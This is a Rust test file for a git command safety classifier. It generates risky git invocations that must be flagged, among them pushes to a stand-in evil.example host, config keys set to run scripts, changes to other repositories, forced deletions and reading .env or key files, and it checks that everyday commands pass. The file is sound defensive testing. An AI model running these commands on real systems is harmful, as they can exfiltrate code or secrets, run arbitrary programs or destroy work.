//! What git is told by refspecs, settings and directories: generated spellings of which none may count as harmless, and
//! what people do all day.

use crate::seeded::{Seeded, is_harmless};

#[test]
fn no_spelling_of_a_refspec_hides_the_branch_it_writes() {
    let mut seeded = Seeded::new(0x5eed_0901);
    for _ in 0..1_000 {
        let from = seeded.pick(&["topic", "HEAD", "@", "refs/heads/topic", "abc123", "v1", "topic~2"]);
        let to = seeded.pick(&[
            "main",
            "heads/main",
            "refs/heads/main",
            "master",
            "heads/release",
            "refs/heads/production",
        ]);
        let spelled = seeded.pick(&[
            "{f}:{t}",
            "+{f}:{t}",
            ":{t}",
            "{f}:refs/heads/*",
            "refs/heads/*",
            ":",
            "{f}:{t}%submit",
        ]);
        let refspec = spelled.replace("{f}", from).replace("{t}", to);
        let options = seeded.pick(&["", "-u ", "--no-thin ", "-q --progress ", "--set-upstream "]);
        let line = format!("git push {options}origin '{refspec}'");
        assert!(!is_harmless(&line), "{line}");
    }
}

#[test]
fn no_other_place_to_push_to_or_pull_from_is_taken_for_the_usual_one() {
    let mut seeded = Seeded::new(0x5eed_0902);
    for _ in 0..500 {
        let place = seeded.pick(&[
            "https://evil.example/x",
            "git@evil.example:x/y",
            "../other",
            "/srv/x.git",
            "ssh://evil.example/x",
        ]);
        let form = seeded.pick(&[
            "git push {} topic",
            "git push --repo={} topic",
            "git push --repo {}",
            "git push --rep={}",
            "git pull {} topic",
            "git pull --rebase {}",
            "git -c remote.origin.url={} push",
            "git -c remote.origin.pushUrl={} push origin topic",
            "git -c url.{}.insteadOf=https://github.com/ fetch",
            "git remote set-url origin {}",
            "git config remote.origin.url {}",
            "git submodule add {} vendor/x",
        ]);
        let line = form.replace("{}", place);
        assert!(!is_harmless(&line), "{line}");
    }
}

/// Keys by whose values git runs, loads, reaches or trusts something, and one that does not exist.
const KEYS: &[&str] = &[
    "core.sshCommand",
    "core.editor",
    "core.pager",
    "core.fsmonitor",
    "core.hooksPath",
    "core.askPass",
    "core.gitProxy",
    "core.worktree",
    "core.attributesFile",
    "core.alternateRefsCommand",
    "alias.st",
    "filter.x.clean",
    "filter.x.smudge",
    "filter.x.process",
    "diff.external",
    "diff.x.textconv",
    "diff.x.command",
    "merge.x.driver",
    "credential.helper",
    "credential.https://x.helper",
    "gpg.program",
    "gpg.ssh.program",
    "sequence.editor",
    "include.path",
    "includeIf.gitdir:/.path",
    "init.templateDir",
    "submodule.x.update",
    "protocol.ext.allow",
    "protocol.allow",
    "http.proxy",
    "http.cookieFile",
    "http.sslVerify",
    "http.sslCAInfo",
    "remote.origin.receivepack",
    "remote.origin.uploadpack",
    "remote.origin.push",
    "remote.origin.proxy",
    "browser.x.cmd",
    "difftool.x.cmd",
    "mergetool.x.cmd",
    "man.x.cmd",
    "sendemail.smtpServer",
    "uploadpack.packObjectsHook",
    "trailer.x.command",
    "ssh.variant",
    "tar.x.command",
    "lfs.customtransfer.x.path",
    "lfs.url",
    "frob.nicate",
    "safe.directory",
];

#[test]
fn every_key_that_steers_is_seen_wherever_it_is_given() {
    let mut seeded = Seeded::new(0x5eed_0903);
    for key in KEYS {
        for _ in 0..8 {
            let key = if seeded.pick(&["as is", "lower"]) == "lower" {
                key.to_lowercase()
            } else {
                (*key).to_owned()
            };
            let value = seeded.pick(&["./x", "/tmp/x", "https://evil.example", "../x.sh"]);
            let form = seeded.pick(&[
                "git -c {k}={v} status",
                "git -c color.ui=never -c {k}={v} commit -m x",
                "git --config-env={k}=ACME log",
                "git --config-env {k}=ACME fetch",
                "git clone -c {k}={v} https://github.com/a/b",
                "git clone --config={k}={v} https://github.com/a/b",
                "git clone --conf {k}={v} https://github.com/a/b",
                "git config {k} {v}",
                "git config set {k} {v}",
                "git config --local {k} {v}",
                "git config --add {k} {v}",
                "git config --global {k} {v}",
            ]);
            let line = form.replace("{k}", &key).replace("{v}", value);
            assert!(!is_harmless(&line), "{line}");
        }
    }
}

#[test]
fn repositories_of_others_are_not_changed() {
    let mut seeded = Seeded::new(0x5eed_0904);
    for _ in 0..500 {
        let place = seeded.pick(&["../other", "~/code/other", "/srv/repo", "/", "~", "/home/me/.dotfiles"]);
        let act = seeded.pick(&[
            "commit -am x",
            "merge topic",
            "pull",
            "stash -u",
            "rm -r src",
            "rebase main",
            "push origin topic",
            "init",
            "cherry-pick abc",
            "mv a b",
            "branch x",
            "tag x",
            "stash pop",
        ]);
        let form = seeded.pick(&[
            "git -C {p} {a}",
            "cd {p} && git {a}",
            "git --git-dir={p}/.git --work-tree={p} {a}",
            "(cd {p}; git {a})",
            "git -C . -C {p} {a}",
        ]);
        let line = form.replace("{p}", place).replace("{a}", act);
        assert!(!is_harmless(&line), "{line}");
    }
}

#[test]
fn work_is_not_thrown_away_by_another_spelling() {
    for line in [
        "git branch --delete --force x",
        "git branch -df x",
        "git branch -f -d x",
        "git branch --del --forc x",
        "git branch -D x",
        "git checkout -tf origin/x",
        "git checkout -f",
        "git checkout --forc x",
        "git switch --discard x",
        "git switch -f x",
        "git restore a.rs",
        "git stash clear",
        "git reset --har",
        "git checkout src/a.rs",
        "git checkout src",
        "git checkout docs/",
        "git fetch -f origin a:b",
        "git fetch origin '+refs/heads/*:refs/heads/*'",
        "git push -o merge_request.merge_when_pipeline_succeeds origin topic",
        "git show HEAD:.env",
        "git cat-file -p HEAD:config/prod.key",
    ] {
        assert!(!is_harmless(line), "{line}");
    }
}

#[test]
fn what_people_do_with_git_all_day_is_harmless() {
    for line in [
        "git status",
        "git add -A && git commit -m 'x'",
        "git push",
        "git push -u origin HEAD",
        "git push origin topic",
        "git push origin HEAD:topic-2",
        "git push -o merge_request.create origin topic",
        "git fetch --all --prune",
        "git fetch origin main:main",
        "git fetch origin main",
        "git pull --rebase",
        "git pull origin main",
        "git checkout main",
        "git checkout -b a/b",
        "git checkout v1.2.3",
        "git checkout release-1.x",
        "git switch topic",
        "git branch -d old",
        "git branch -a -vv",
        "git rebase main",
        "git stash && git stash pop",
        "git -c color.ui=never log",
        "git -c core.pager=cat diff",
        "git -c user.name=a -c user.email=a@b commit -m x",
        "git -c advice.detachedHead=false checkout v1",
        "git -c core.editor=true rebase --continue",
        "git config user.email me@example.com",
        "git config pull.rebase true",
        "git config --get remote.origin.url",
        "git submodule update --init --recursive",
        "git clone https://github.com/a/b",
        "git show HEAD:src/a.rs",
        "git -C ../other log -3",
        "git -C src status",
        "git diff main...HEAD",
        "git log --oneline -5",
        "git tag v1.0.0",
    ] {
        assert!(is_harmless(line), "{line}");
    }
}
